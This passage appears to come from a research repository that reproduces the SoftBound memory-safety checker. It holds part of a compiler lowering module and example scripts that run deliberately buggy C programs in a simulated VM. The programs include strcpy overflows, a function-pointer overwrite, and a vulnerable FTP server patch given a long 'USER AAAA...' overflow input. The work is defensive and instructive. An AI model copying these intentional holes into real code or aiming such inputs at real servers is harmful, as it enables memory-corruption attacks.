            value = self._convert(value, expr.value.ctype, expr.target.ctype)
            addr, ctype = self._lower_lvalue(expr.target)
            self._emit(ins.Store(value=value, addr=addr, type=from_ctype(ctype),
                                 is_pointer_value=ctype.is_pointer))
            return value
        # Compound assignment: load-modify-store.
        addr, ctype = self._lower_lvalue(expr.target)
        old = self._load_lvalue(addr, ctype)
        rhs = self._lower_expr(expr.value)
        base_op = expr.op[:-1]
        if ctype.is_pointer:
            index = self._convert(rhs, expr.value.ctype, ct.LONG)
            scaled = self.func.new_reg(I64)
            self._emit(ins.BinOp(dst=scaled, op="mul", a=index,
                                 b=const_int(ctype.pointee.size, I64)))
            if base_op == "-":
                neg = self.func.new_reg(I64)
                self._emit(ins.BinOp(dst=neg, op="sub", a=const_int(0, I64), b=scaled))
                scaled = neg
            new = self.func.new_reg(PTR)
            self._emit(ins.Gep(dst=new, base=old, offset=scaled))
        else:
            compute_type = ct.common_arith_type(ctype, expr.value.ctype) \
                if ctype.is_arith and expr.value.ctype.is_arith else ctype
            a = self._convert(old, ctype, compute_type)
            b = self._convert(rhs, expr.value.ctype, compute_type)
            tmp = self.func.new_reg(from_ctype(compute_type))
            self._emit(ins.BinOp(dst=tmp, op=self._arith_opcode(base_op, compute_type), a=a, b=b))
            new = self._convert(tmp, compute_type, ctype)
        self._emit(ins.Store(value=new, addr=addr, type=from_ctype(ctype),
                             is_pointer_value=ctype.is_pointer))
        return new

    def _expr_Conditional(self, expr):
        result = self.func.new_reg(from_ctype(expr.ctype), "cond")
        then_block = self._new_block("cond.then")
        else_block = self._new_block("cond.else")
        end_block = self._new_block("cond.end")
        self._lower_cond_branch(expr.cond, then_block, else_block)
        self._set_block(then_block)
        tval = self._lower_expr(expr.then)
        tval = self._convert(tval, expr.then.ctype, expr.ctype)
        self._emit(ins.Mov(dst=result, src=tval))
        self._emit(ins.Br(label=end_block.label))
        self._set_block(else_block)
        fval = self._lower_expr(expr.otherwise)
        fval = self._convert(fval, expr.otherwise.ctype, expr.ctype)
        self._emit(ins.Mov(dst=result, src=fval))
        self._emit(ins.Br(label=end_block.label))
        self._set_block(end_block)
        return result

    def _expr_Cast(self, expr):
        value = self._lower_expr(expr.operand)
        return self._convert(value, expr.operand.ctype, expr.ctype)

    def _expr_SizeofType(self, expr):
        return const_int(expr.target_type.size, I64)

    def _expr_SizeofExpr(self, expr):
        return const_int(expr.operand.ctype.size, I64)

    def _expr_Index(self, expr):
        addr, ctype = self._lower_lvalue(expr)
        return self._load_lvalue(addr, ctype)

    def _expr_Member(self, expr):
        addr, ctype = self._lower_lvalue(expr)
        return self._load_lvalue(addr, ctype)

    def _expr_Call(self, expr):
        func_expr = expr.func
        callee = None
        callee_reg = None
        if isinstance(func_expr, ast.Identifier) and func_expr.binding == "function":
            callee = func_expr.name
        else:
            callee_reg = self._lower_expr(func_expr)
        args = []
        arg_ctypes = []
        for arg in expr.args:
            value = self._lower_expr(arg)
            args.append(value)
            arg_ctypes.append(arg.ctype)
        ret_ctype = expr.ctype
        dst = None
        if ret_ctype is not None and not ret_ctype.is_void:
            dst = self.func.new_reg(from_ctype(ret_ctype))
        self._emit(ins.Call(dst=dst, callee=callee, callee_reg=callee_reg,
                            args=args, arg_ctypes=arg_ctypes, ret_ctype=ret_ctype))
        return dst

    # -- conversions -----------------------------------------------------------------

    def _convert(self, value, from_type, to_type):
        """Emit conversion instructions between C types as needed."""
        if from_type is None or to_type is None or from_type == to_type:
            return value
        src_ir = from_ctype(from_type) if not from_type.is_void else I64
        dst_ir = from_ctype(to_type) if not to_type.is_void else I64
        # Pointer-ish source types (arrays decay before this point).
        if src_ir.is_ptr and dst_ir.is_ptr:
            return value  # all pointer casts are representation-free
        if src_ir.is_ptr and dst_ir.is_int:
            dst = self.func.new_reg(I64)
            self._emit(ins.Cast(dst=dst, kind="ptrtoint", src=value))
            return self._int_resize(dst, ct.LONG, to_type)
        if src_ir.is_int and dst_ir.is_ptr:
            widened = self._int_resize(value, from_type, ct.LONG)
            dst = self.func.new_reg(PTR)
            self._emit(ins.Cast(dst=dst, kind="inttoptr", src=widened))
            return dst
        if src_ir.is_float and dst_ir.is_float:
            return value
        if src_ir.is_int and dst_ir.is_float:
            dst = self.func.new_reg(F64)
            kind = "sitofp" if from_type.signed else "uitofp"
            self._emit(ins.Cast(dst=dst, kind=kind, src=value))
            return dst
        if src_ir.is_float and dst_ir.is_int:
            dst = self.func.new_reg(dst_ir)
            kind = "fptosi" if to_type.signed else "fptoui"
            self._emit(ins.Cast(dst=dst, kind=kind, src=value))
            return dst
        if src_ir.is_int and dst_ir.is_int:
            return self._int_resize(value, from_type, to_type)
        raise LoweringError(f"cannot convert {from_type} to {to_type}")

    def _int_resize(self, value, from_type, to_type):
        if from_type.width == to_type.width:
            if from_type.signed == to_type.signed:
                return value
            # Same width, signedness flip: reinterpret bits.
            dst = self.func.new_reg(from_ctype(to_type))
            kind = "zext" if not to_type.signed else "sext"
            self._emit(ins.Cast(dst=dst, kind="bitcast", src=value))
            return dst
        dst = self.func.new_reg(from_ctype(to_type))
        if to_type.width < from_type.width:
            self._emit(ins.Cast(dst=dst, kind="trunc", src=value))
        else:
            kind = "sext" if from_type.signed else "zext"
            self._emit(ins.Cast(dst=dst, kind=kind, src=value))
        return dst


class _Reloc:
    def __init__(self, symbol, addend):
        self.symbol = symbol
        self.addend = addend


def lower(program):
    """Lower a TypedProgram to an IR Module."""
    return Lowerer(program).lower()
