"""AST-to-IR lowering."""

from .lowering import Lowerer, LoweringError, lower

__all__ = ["Lowerer", "LoweringError", "lower"]
