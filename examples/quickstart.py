#!/usr/bin/env python
"""Quickstart: compile a C program, watch it corrupt memory silently,
then watch SoftBound stop it.

Run:  python examples/quickstart.py
"""

from repro import SoftBoundConfig, compile_and_run
from repro.softbound.config import CheckMode, STORE_SHADOW

# The paper's motivating bug shape (Section 2.1): a string copy escapes
# an 8-byte field inside a struct and silently overwrites its sibling.
BUGGY_PROGRAM = r'''
struct account {
    char name[8];
    long balance;
};
struct account acct;

int main(void) {
    acct.balance = 1000;
    strcpy(acct.name, "excessively-long-name");
    printf("balance is now %ld\n", acct.balance);
    return acct.balance == 1000 ? 0 : 1;
}
'''


def main():
    print("=== 1. Unprotected run ===")
    plain = compile_and_run(BUGGY_PROGRAM)
    print(plain.output.rstrip())
    print(f"exit code {plain.exit_code} -> the overflow silently corrupted "
          f"`balance` and nothing noticed.\n")

    print("=== 2. SoftBound, full checking (default config) ===")
    protected = compile_and_run(BUGGY_PROGRAM, softbound=SoftBoundConfig())
    print(f"trap: {protected.trap}")
    assert protected.detected_violation
    print("the out-of-bounds strcpy was stopped before any corruption.\n")

    print("=== 3. SoftBound, store-only mode (production config) ===")
    store_only = compile_and_run(BUGGY_PROGRAM, softbound=STORE_SHADOW)
    print(f"trap: {store_only.trap}")
    assert store_only.detected_violation

    print("\n=== 4. Overhead on a correct program ===")
    benign = r'''
    int main(void) {
        int data[64];
        long total = 0;
        for (int i = 0; i < 64; i++) data[i] = i * i;
        for (int i = 0; i < 64; i++) total += data[i];
        printf("total=%ld\n", total);
        return 0;
    }
    '''
    base = compile_and_run(benign)
    full = compile_and_run(benign, softbound=SoftBoundConfig())
    overhead = (full.stats.cost / base.stats.cost - 1) * 100
    print(f"baseline cost {base.stats.cost}, protected cost {full.stats.cost} "
          f"-> {overhead:.0f}% overhead, output identical: "
          f"{full.output == base.output}")


if __name__ == "__main__":
    main()
