#!/usr/bin/env python
"""Quickstart: compile a C program, watch it corrupt memory silently,
then watch SoftBound stop it — through the ``repro.api`` facade.

A :class:`~repro.api.Session` caches compiles and returns structured
:class:`~repro.api.RunReport`\\ s; protection is selected by *profile
name* (``python -m repro profiles`` lists them all).

Run:  python examples/quickstart.py
"""

from repro.api import Session

# The paper's motivating bug shape (Section 2.1): a string copy escapes
# an 8-byte field inside a struct and silently overwrites its sibling.
BUGGY_PROGRAM = r'''
struct account {
    char name[8];
    long balance;
};
struct account acct;

int main(void) {
    acct.balance = 1000;
    strcpy(acct.name, "excessively-long-name");
    printf("balance is now %ld\n", acct.balance);
    return acct.balance == 1000 ? 0 : 1;
}
'''


def main():
    session = Session()

    print("=== 1. Unprotected run ===")
    plain = session.run(BUGGY_PROGRAM, profile="none")
    print(plain.output.rstrip())
    print(f"exit code {plain.exit_code} -> the overflow silently corrupted "
          f"`balance` and nothing noticed.\n")

    print("=== 2. SoftBound, full checking (profile 'spatial') ===")
    protected = session.run(BUGGY_PROGRAM, profile="spatial")
    print(f"trap: {protected.trap}")
    assert protected.detected_violation
    print("the out-of-bounds strcpy was stopped before any corruption.\n")

    print("=== 3. SoftBound, store-only mode (production profile) ===")
    store_only = session.run(BUGGY_PROGRAM, profile="spatial-store-only")
    print(f"trap: {store_only.trap}")
    assert store_only.detected_violation

    print("\n=== 4. Overhead on a correct program ===")
    benign = r'''
    int main(void) {
        int data[64];
        long total = 0;
        for (int i = 0; i < 64; i++) data[i] = i * i;
        for (int i = 0; i < 64; i++) total += data[i];
        printf("total=%ld\n", total);
        return 0;
    }
    '''
    base = session.run(benign)
    full = session.run(benign, profile="spatial")
    overhead = (full.stats.cost / base.stats.cost - 1) * 100
    print(f"baseline cost {base.stats.cost}, protected cost {full.stats.cost} "
          f"-> {overhead:.0f}% overhead, output identical: "
          f"{full.output == base.output}")
    print(f"(session compiled {session.cached_programs} programs; repeats "
          f"were cache hits)")


if __name__ == "__main__":
    main()
