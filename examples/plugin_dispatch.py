#!/usr/bin/env python
"""Function-pointer signature checking on a plugin dispatch table.

Programs with plugin architectures store handlers in tables of function
pointers and cast them to a common "generic handler" type.  When a
handler's real signature disagrees with the table's — a pointer argument
where the dispatcher passes an integer — plain SoftBound only notices if
the handler happens to dereference (and then deep inside the callee);
if it doesn't, the call silently computes garbage.

The paper acknowledges the problem and sketches the fix without
implementing it (Section 5.2): "the ultimate solution is to encode the
pointer/non-pointer signature of the function's arguments, allowing a
dynamic check".  This repository implements that extension:
``ProtectionProfile.from_flags(softbound=True, fnptr_signatures=True)``
(or the all-checks-on registered profile, ``"full"``).

Run:  python examples/plugin_dispatch.py
"""

from repro.api import ProtectionProfile, run_source

PROGRAM = r'''
/* The dispatcher's idea of a handler: two integer arguments. */
typedef int (*handler_t)(int, int);

int add_handler(int a, int b) { return a + b; }
int mul_handler(int a, int b) { return a * b; }

/* A mis-registered plugin: expects a POINTER first argument. */
int sum_handler(int *values, int n) {
    int t = 0;
    for (int i = 0; i < n; i++) t += values[i];
    return t;
}

handler_t table[3];

int main(void) {
    table[0] = add_handler;
    table[1] = mul_handler;
    table[2] = (handler_t)sum_handler;   /* the wild cast */

    int result = 0;
    result += table[0](40, 2);           /* fine */
    result += table[1](6, 7);            /* fine */
    result += table[2](1000, 4);         /* 1000 is not a pointer! */
    printf("dispatched total: %d\n", result);
    return result & 0xff;
}
'''


def main():
    print("=== 1. Plain SoftBound (the paper's prototype) ===")
    plain = run_source(PROGRAM, profile="spatial")
    print(f"trap: {plain.trap}")
    print("the mismatch surfaces only when sum_handler dereferences its "
          "forged pointer — as a generic spatial violation deep inside "
          "the callee.\n")
    assert plain.detected_violation

    print("=== 2. With signature encoding (the Section 5.2 extension) ===")
    signatures = ProtectionProfile.from_flags(softbound=True,
                                              fnptr_signatures=True)
    checked = run_source(PROGRAM, profile=signatures)
    print(f"trap: {checked.trap}")
    assert checked.trap is not None
    assert "signature mismatch" in checked.trap.detail
    print("the violation is reported eagerly at the indirect call, named "
          "as a signature mismatch, before control ever enters the "
          "mis-registered handler.\n")

    print("=== 3. Well-matched tables run unimpeded ===")
    clean = PROGRAM.replace(
        'result += table[2](1000, 4);         /* 1000 is not a pointer! */',
        '')
    result = run_source(clean, profile=signatures)
    print(result.output.rstrip())
    assert result.trap is None
    print("signature checking costs two comparisons per indirect call and "
          "never fires on compatible dispatch.")


if __name__ == "__main__":
    main()
