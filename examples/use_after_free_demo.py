#!/usr/bin/env python
"""Use-after-free demo: why spatial checking alone is half the story.

Companion to ``stack_smash_demo.py``.  The stack smash is stopped by
*spatial* checking (the overflowing store leaves its object's bounds);
a use-after-free never leaves its bounds at all — the allocation under
them died.  The VM's allocator reuses freed blocks (first-fit), so the
stale read genuinely leaks the new owner's data, and only the
lock-and-key temporal subsystem (profile ``"temporal"``,
``--temporal`` on the CLI) sees anything wrong.

Run:  python examples/use_after_free_demo.py
"""

from repro.api import Session
from repro.workloads.temporal_attacks import TEMPORAL_ATTACKS, all_temporal_attacks

ATTACK = TEMPORAL_ATTACKS["uaf_read"]


def main():
    session = Session()
    print("Attack source (use-after-free read: the freed block is")
    print("re-allocated to a new owner, the stale pointer leaks it):")
    print(ATTACK.source)

    print("=== Unprotected run ===")
    plain = session.run(ATTACK.source, name=ATTACK.name)
    print(f"output: {plain.output.strip()!r}  exit={plain.exit_code}"
          f"  -> {'SECRET LEAKED' if plain.attack_succeeded else 'survived'}\n")

    print("=== SoftBound spatial-only (Full-Shadow) ===")
    spatial = session.run(ATTACK.source, profile="spatial", name=ATTACK.name)
    verdict = spatial.trap if spatial.trap is not None else \
        "no trap — every dereference was in (dead) bounds"
    print(f"output: {spatial.output.strip()!r}  exit={spatial.exit_code}")
    print(f"verdict: {verdict}\n")

    print("=== SoftBound spatial + temporal (lock-and-key) ===")
    temporal = session.run(ATTACK.source, profile="temporal", name=ATTACK.name)
    print(f"stopped: {temporal.trap}\n")

    print("=== Whole temporal suite ===")
    for attack in all_temporal_attacks():
        plain = session.run(attack.source, name=attack.name)
        spatial = session.run(attack.source, profile="spatial", name=attack.name)
        temporal = session.run(attack.source, profile="temporal",
                               name=attack.name)
        spatial_view = ("missed" if spatial.trap is None
                        else spatial.trap.kind.value)
        print(f"{attack.name:22s} unprotected: "
              f"{'EXPLOITED' if plain.attack_succeeded else 'silent':10s} "
              f"spatial: {spatial_view:28s} "
              f"temporal: {'detected' if temporal.detected_violation else 'MISSED'}")


if __name__ == "__main__":
    main()
