#!/usr/bin/env python
"""Use-after-free demo: why spatial checking alone is half the story.

Companion to ``stack_smash_demo.py``.  The stack smash is stopped by
*spatial* checking (the overflowing store leaves its object's bounds);
a use-after-free never leaves its bounds at all — the allocation under
them died.  The VM's allocator reuses freed blocks (first-fit), so the
stale read genuinely leaks the new owner's data, and only the
lock-and-key temporal subsystem (``SoftBoundConfig(temporal=True)``,
``--temporal`` on the CLI) sees anything wrong.

Run:  python examples/use_after_free_demo.py
"""

from repro import compile_and_run
from repro.softbound.config import FULL_SHADOW, TEMPORAL_SHADOW
from repro.workloads.temporal_attacks import TEMPORAL_ATTACKS, all_temporal_attacks

ATTACK = TEMPORAL_ATTACKS["uaf_read"]


def main():
    print("Attack source (use-after-free read: the freed block is")
    print("re-allocated to a new owner, the stale pointer leaks it):")
    print(ATTACK.source)

    print("=== Unprotected run ===")
    plain = compile_and_run(ATTACK.source)
    print(f"output: {plain.output.strip()!r}  exit={plain.exit_code}"
          f"  -> {'SECRET LEAKED' if plain.attack_succeeded else 'survived'}\n")

    print("=== SoftBound spatial-only (Full-Shadow) ===")
    spatial = compile_and_run(ATTACK.source, softbound=FULL_SHADOW)
    verdict = spatial.trap if spatial.trap is not None else \
        "no trap — every dereference was in (dead) bounds"
    print(f"output: {spatial.output.strip()!r}  exit={spatial.exit_code}")
    print(f"verdict: {verdict}\n")

    print("=== SoftBound spatial + temporal (lock-and-key) ===")
    temporal = compile_and_run(ATTACK.source, softbound=TEMPORAL_SHADOW)
    print(f"stopped: {temporal.trap}\n")

    print("=== Whole temporal suite ===")
    for attack in all_temporal_attacks():
        plain = compile_and_run(attack.source)
        spatial = compile_and_run(attack.source, softbound=FULL_SHADOW)
        temporal = compile_and_run(attack.source, softbound=TEMPORAL_SHADOW)
        spatial_view = ("missed" if spatial.trap is None
                        else spatial.trap.kind.value)
        print(f"{attack.name:22s} unprotected: "
              f"{'EXPLOITED' if plain.attack_succeeded else 'silent':10s} "
              f"spatial: {spatial_view:28s} "
              f"temporal: {'detected' if temporal.detected_violation else 'MISSED'}")


if __name__ == "__main__":
    main()
