#!/usr/bin/env python
"""Run one bug under every checker in the repository — one
:class:`~repro.api.Session`, selecting each checker by profile name.

The bug is the paper's Section 2.1 sub-object overflow — the case that
separates SoftBound from every object-granularity tool (Table 1's
"Complete (subfield access)" column and Table 4's `go` row).

Run:  python examples/compare_checkers.py
"""

from repro.api import Session

SUBOBJECT_BUG = r'''
struct packet {
    char header[8];
    void (*deliver)(void);
};
struct packet pkt;
void deliver_normally(void) { printf("delivered\n"); }

int main(void) {
    pkt.deliver = deliver_normally;
    char *h = pkt.header;
    /* 12 bytes into an 8-byte field: tramples the function pointer */
    strcpy(h, "AAAABBBBCCC");
    pkt.deliver();
    return 0;
}
'''

#: (display name, profile) — the whole comparison is profile selection.
CHECKERS = [
    ("unprotected", "none"),
    ("Valgrind-style (heap addressability)", "valgrind"),
    ("Mudflap-style (object table + cache)", "mudflap"),
    ("Jones-Kelly (object table, splay tree)", "jones-kelly"),
    ("MSCC (pointer-based, no sub-object bounds)", "mscc"),
    ("fat pointers, naive inline (SafeC-style)", "fatptr-naive"),
    ("fat pointers, WILD tags (CCured-style)", "fatptr-wild"),
    ("SoftBound store-only (shadow space)", "spatial-store-only"),
    ("SoftBound full (hash table)", "spatial-hash"),
    ("SoftBound full (shadow space)", "spatial"),
]


def describe(report):
    if report.detected_violation:
        return f"DETECTED by {report.trap.source}: {report.trap.detail}"
    if report.trap is not None:
        return f"crashed later: {report.trap.kind.value}"
    return f"MISSED (ran to completion, exit {report.exit_code})"


def main():
    session = Session()
    print("Sub-object overflow (struct field array -> sibling fn pointer):\n")
    for name, profile in CHECKERS:
        report = session.run(SUBOBJECT_BUG, profile=profile)
        print(f"  {name:45s} {describe(report)}")
    print("\nOnly SoftBound's shrunk sub-object bounds stop the overflow")
    print("*at the strcpy itself*.  The other pointer-based schemes miss")
    print("the overflow (whole-object bounds) and only notice at the last")
    print("moment, when the trampled function pointer fails the base==bound")
    print("call check; the object-table tools never notice at all.  Store-")
    print("only mode catches this one because the overflow is a write.")


if __name__ == "__main__":
    main()
