#!/usr/bin/env python
"""Run one bug under every checker in the repository.

The bug is the paper's Section 2.1 sub-object overflow — the case that
separates SoftBound from every object-granularity tool (Table 1's
"Complete (subfield access)" column and Table 4's `go` row).

Run:  python examples/compare_checkers.py
"""

from repro import compile_and_run
from repro.baselines import JonesKellyChecker, MudflapChecker, ValgrindChecker
from repro.baselines.fatptr import NAIVE_FATPTR_CONFIG, WILD_FATPTR_CONFIG
from repro.baselines.mscc import MSCC_CONFIG
from repro.softbound.config import FULL_HASH, FULL_SHADOW, STORE_SHADOW

SUBOBJECT_BUG = r'''
struct packet {
    char header[8];
    void (*deliver)(void);
};
struct packet pkt;
void deliver_normally(void) { printf("delivered\n"); }

int main(void) {
    pkt.deliver = deliver_normally;
    char *h = pkt.header;
    /* 12 bytes into an 8-byte field: tramples the function pointer */
    strcpy(h, "AAAABBBBCCC");
    pkt.deliver();
    return 0;
}
'''


def describe(result):
    if result.detected_violation:
        return f"DETECTED by {result.trap.source}: {result.trap.detail}"
    if result.trap is not None:
        return f"crashed later: {result.trap.kind.value}"
    return f"MISSED (ran to completion, exit {result.exit_code})"


def main():
    rows = [
        ("unprotected", lambda: compile_and_run(SUBOBJECT_BUG)),
        ("Valgrind-style (heap addressability)",
         lambda: compile_and_run(SUBOBJECT_BUG, observers=(ValgrindChecker(),))),
        ("Mudflap-style (object table + cache)",
         lambda: compile_and_run(SUBOBJECT_BUG, observers=(MudflapChecker(),))),
        ("Jones-Kelly (object table, splay tree)",
         lambda: compile_and_run(SUBOBJECT_BUG, observers=(JonesKellyChecker(),))),
        ("MSCC (pointer-based, no sub-object bounds)",
         lambda: compile_and_run(SUBOBJECT_BUG, softbound=MSCC_CONFIG)),
        ("fat pointers, naive inline (SafeC-style)",
         lambda: compile_and_run(SUBOBJECT_BUG, softbound=NAIVE_FATPTR_CONFIG)),
        ("fat pointers, WILD tags (CCured-style)",
         lambda: compile_and_run(SUBOBJECT_BUG, softbound=WILD_FATPTR_CONFIG)),
        ("SoftBound store-only (shadow space)",
         lambda: compile_and_run(SUBOBJECT_BUG, softbound=STORE_SHADOW)),
        ("SoftBound full (hash table)",
         lambda: compile_and_run(SUBOBJECT_BUG, softbound=FULL_HASH)),
        ("SoftBound full (shadow space)",
         lambda: compile_and_run(SUBOBJECT_BUG, softbound=FULL_SHADOW)),
    ]
    print("Sub-object overflow (struct field array -> sibling fn pointer):\n")
    for name, runner in rows:
        print(f"  {name:45s} {describe(runner())}")
    print("\nOnly SoftBound's shrunk sub-object bounds stop the overflow")
    print("*at the strcpy itself*.  The other pointer-based schemes miss")
    print("the overflow (whole-object bounds) and only notice at the last")
    print("moment, when the trampled function pointer fails the base==bound")
    print("call check; the object-table tools never notice at all.  Store-")
    print("only mode catches this one because the overflow is a write.")


if __name__ == "__main__":
    main()
