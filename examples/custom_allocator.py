#!/usr/bin/env python
"""Custom pool allocators and ``setbound()`` (paper Section 5.2).

C programs frequently carve many small objects out of one big arena.
Under plain SoftBound every sub-allocation inherits the *arena's*
bounds, so a overflow from one pooled object into its neighbour goes
unnoticed.  The paper's escape hatch is ``setbound(ptr, size)``:
"SoftBound allows the programmer to explicitly shrink bounds ... (e.g.,
when employing a custom memory allocator)".

This example runs the same pool allocator three ways:
1. unprotected — the overflow silently corrupts the neighbouring object;
2. SoftBound without setbound — NOT detected (the pointer legitimately
   carries the whole arena's bounds);
3. SoftBound with setbound in the allocator — caught at the first
   out-of-bounds store.

Run:  python examples/custom_allocator.py
"""

from repro.api import run_source

# A bump-pointer pool allocator.  `USE_SETBOUND` is spliced in so the
# same program can run with and without the annotation.
POOL_PROGRAM_TEMPLATE = r'''
char arena[256];
int next_free = 0;

char *pool_alloc(int size) {
    char *object = arena + next_free;
    next_free = next_free + size;
    %(setbound)s
    return object;
}

int main(void) {
    char *name = pool_alloc(8);
    long *balance = (long *)pool_alloc(8);
    *balance = 1000;

    /* 20 characters into an 8-byte pooled object. */
    strcpy(name, "overflowing-the-pool");

    printf("balance: %%ld\n", *balance);
    return *balance == 1000 ? 0 : 1;
}
'''

WITHOUT_SETBOUND = POOL_PROGRAM_TEMPLATE % {"setbound": ""}
WITH_SETBOUND = POOL_PROGRAM_TEMPLATE % {"setbound": "setbound(object, size);"}


def main():
    print("=== 1. Unprotected pool allocator ===")
    plain = run_source(WITHOUT_SETBOUND)
    print(plain.output.rstrip())
    print(f"exit code {plain.exit_code} -> the pooled `balance` was "
          f"silently corrupted by its neighbour.\n")
    assert plain.exit_code == 1

    print("=== 2. SoftBound, allocator NOT annotated ===")
    unannotated = run_source(WITHOUT_SETBOUND, profile="spatial")
    print(f"trap: {unannotated.trap}")
    print("no trap — every pooled object legally carries the whole "
          "arena's bounds, so intra-pool overflows are invisible.  This "
          "is exactly why the paper provides setbound().\n")
    assert unannotated.trap is None
    assert unannotated.exit_code == 1  # still corrupted!

    print("=== 3. SoftBound, allocator calls setbound(object, size) ===")
    annotated = run_source(WITH_SETBOUND, profile="spatial")
    print(f"trap: {annotated.trap}")
    assert annotated.detected_violation
    print("one line in the allocator gives every pooled object its own "
          "bounds; the overflow is stopped before corrupting anything.")


if __name__ == "__main__":
    main()
