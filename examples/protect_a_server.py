#!/usr/bin/env python
"""Compatibility case study (paper Section 6.4): protect a network
daemon without touching its source.

Compiles the FTP-like server unmodified under SoftBound, replays a
client session against both builds, and confirms identical behaviour
(zero false positives) — then demonstrates that an *exploitable* variant
of the same server is saved by the instrumentation.

Run:  python examples/protect_a_server.py
"""

from repro.api import Session
from repro.workloads.servers import FTP_SERVER

# The same server with a classic bug: a fixed 16-byte username buffer
# filled by unbounded strcpy.
VULNERABLE_PATCH = FTP_SERVER.source.replace(
    "strncpy(sess.user, arg, 31);\n    sess.user[31] = 0;",
    "strcpy(sess.user, arg);   /* whoops */")

EXPLOIT_SESSION = b"USER " + b"A" * 120 + b"\nQUIT\n"


def main():
    session = Session()
    print("=== Replay a normal session against the stock server ===")
    plain = session.run(FTP_SERVER.source, name="ftpd",
                        input_data=FTP_SERVER.request_stream)
    protected = session.run(FTP_SERVER.source, profile="spatial-store-only",
                            name="ftpd", input_data=FTP_SERVER.request_stream)
    print(plain.output)
    print(f"unprotected exit={plain.exit_code}; protected exit={protected.exit_code}; "
          f"outputs identical: {protected.output == plain.output}; "
          f"false positives: {protected.trap}")
    assert protected.trap is None and protected.output == plain.output

    print("\n=== Now the vulnerable variant, attacked ===")
    attacked = session.run(VULNERABLE_PATCH, name="ftpd-vuln",
                           input_data=EXPLOIT_SESSION)
    print(f"unprotected: trap={attacked.trap} exit={attacked.exit_code} "
          f"(the 120-byte username sprayed through the session struct)")

    saved = session.run(VULNERABLE_PATCH, profile="spatial-store-only",
                        name="ftpd-vuln", input_data=EXPLOIT_SESSION)
    print(f"store-only SoftBound: {saved.trap}")
    assert saved.detected_violation

    overhead = (protected.stats.cost / plain.stats.cost - 1) * 100
    print(f"\nprotection cost on the request stream: {overhead:.0f}% "
          f"({protected.stats.checks} checks, "
          f"{protected.stats.metadata_loads} metadata loads)")


if __name__ == "__main__":
    main()
