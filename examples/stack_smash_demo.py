#!/usr/bin/env python
"""Stack-smashing demo: a classic return-address hijack, end to end.

The VM materializes saved frame pointers and return addresses in
simulated stack memory, so this attack *actually works* against the
unprotected build — and both SoftBound modes stop it at the
out-of-bounds store.

Run:  python examples/stack_smash_demo.py
"""

from repro.api import Session
from repro.workloads.attacks import ATTACKS, all_attacks

ATTACK = ATTACKS["stack_direct_ret"]


def main():
    session = Session()
    print("Attack source (Wilander form: overflow on stack, all the way")
    print("to the return address):")
    print(ATTACK.source)

    print("=== Unprotected run ===")
    plain = session.run(ATTACK.source, name=ATTACK.name)
    if plain.attack_succeeded:
        hijack = plain.trap.target_symbol if plain.trap else "payload executed"
        print(f"CONTROL FLOW HIJACKED -> {hijack}\n")

    print("=== SoftBound full checking ===")
    full = session.run(ATTACK.source, profile="spatial", name=ATTACK.name)
    print(f"stopped: {full.trap}\n")

    print("=== SoftBound store-only checking ===")
    store = session.run(ATTACK.source, profile="spatial-store-only",
                        name=ATTACK.name)
    print(f"stopped: {store.trap}\n")

    print("=== Whole suite (Table 3) ===")
    for attack in all_attacks():
        plain = session.run(attack.source, name=attack.name)
        protected = session.run(attack.source, profile="spatial-store-only",
                                name=attack.name)
        print(f"{attack.name:30s} unprotected: "
              f"{'EXPLOITED' if plain.attack_succeeded else 'survived':10s} "
              f"store-only: {'detected' if protected.detected_violation else 'MISSED'}")


if __name__ == "__main__":
    main()
