#!/usr/bin/env python
"""Stack-smashing demo: a classic return-address hijack, end to end.

The VM materializes saved frame pointers and return addresses in
simulated stack memory, so this attack *actually works* against the
unprotected build — and both SoftBound modes stop it at the
out-of-bounds store.

Run:  python examples/stack_smash_demo.py
"""

from repro import compile_and_run
from repro.softbound.config import FULL_SHADOW, STORE_SHADOW
from repro.workloads.attacks import ATTACKS, all_attacks

ATTACK = ATTACKS["stack_direct_ret"]


def main():
    print("Attack source (Wilander form: overflow on stack, all the way")
    print("to the return address):")
    print(ATTACK.source)

    print("=== Unprotected run ===")
    plain = compile_and_run(ATTACK.source)
    if plain.attack_succeeded:
        hijack = plain.trap.target_symbol if plain.trap else "payload executed"
        print(f"CONTROL FLOW HIJACKED -> {hijack}\n")

    print("=== SoftBound full checking ===")
    full = compile_and_run(ATTACK.source, softbound=FULL_SHADOW)
    print(f"stopped: {full.trap}\n")

    print("=== SoftBound store-only checking ===")
    store = compile_and_run(ATTACK.source, softbound=STORE_SHADOW)
    print(f"stopped: {store.trap}\n")

    print("=== Whole suite (Table 3) ===")
    for attack in all_attacks():
        plain = compile_and_run(attack.source)
        protected = compile_and_run(attack.source, softbound=STORE_SHADOW)
        print(f"{attack.name:30s} unprotected: "
              f"{'EXPLOITED' if plain.attack_succeeded else 'survived':10s} "
              f"store-only: {'detected' if protected.detected_violation else 'MISSED'}")


if __name__ == "__main__":
    main()
