#!/usr/bin/env python
"""Separate compilation and libraries (paper Sections 3.3 and 5.2).

SoftBound's transformation is intra-procedural and resolved by symbol
name, so each translation unit compiles knowing nothing about the
others, and "the static or dynamic linker matches up caller and callee
as usual".  This example builds a two-unit program three ways:

1. library and main both transformed — full checking crosses the
   boundary in both directions;
2. untransformed library, transformed main — everything links and runs,
   but pointers coming out of the library carry no bounds (the paper's
   motivation for distributing SoftBound-recompiled libraries or using
   wrappers);
3. the same mixed link catching a main-side bug anyway — protection
   degrades gracefully, it doesn't vanish.

Run:  python examples/separate_compilation.py
"""

from repro.api import compile_sources

LIBRARY = r'''
int table[8];

int *table_slot(int index) {
    return table + index;        /* no checking of index here */
}

int checksum(int *values, int n) {
    int total = 0;
    for (int i = 0; i < n; i++) total += values[i];
    return total;
}
'''

MAIN = r'''
int *table_slot(int index);
int checksum(int *values, int n);

int main(void) {
    for (int i = 0; i < 8; i++) *table_slot(i) = i;
    int local[4];
    for (int i = 0; i < 4; i++) local[i] = 10;
    int good = checksum(local, 4);

    /* The bug: one past the end of the library's table. */
    *table_slot(8) = 777;
    return good;
}
'''


def build(library_profile, main_profile):
    """Each unit compiles under its own profile; the facade links them
    (mixed transformed/untransformed links are the Section 3.3 point)."""
    return compile_sources([(LIBRARY, library_profile),
                            (MAIN, main_profile)])


def main():
    print("=== 1. Both units transformed (separately!) ===")
    result = build("spatial", "spatial").run()
    print(f"trap: {result.trap}")
    assert result.detected_violation
    print("table_slot(8) returned a pointer with the table's bounds; the")
    print("store through it — back in main, a different translation unit —")
    print("was rejected.  Metadata crossed the boundary both ways.\n")

    print("=== 2. Library left untransformed ===")
    result = build("none", "spatial").run()
    print(f"trap: {result.trap}")
